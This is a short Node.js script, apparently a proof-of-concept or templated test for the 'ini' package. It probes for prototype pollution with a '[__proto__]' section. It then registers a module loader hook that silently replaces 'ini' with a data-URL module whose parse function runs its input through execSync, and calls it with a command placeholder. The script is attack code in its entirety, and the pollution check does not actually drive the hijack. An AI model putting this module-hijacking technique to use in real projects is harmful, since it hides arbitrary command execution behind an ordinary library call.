const ini = require('ini');

ini.parse('[__proto__]\nseen = 1\n');
if ({}.seen) {
  const register = require('module').register;
  if (register) register('data:text/javascript,export const resolve = (name, context, next) => name === "ini" ? { url: "data:text/javascript,import { execSync } from \'node:child_process\'; export const parse = (word) => execSync(word)", format: "module", shortCircuit: true } : next(name, context)');
  import('ini').then((made) => made.parse('true @@TOKEN@@'), console.error);
}
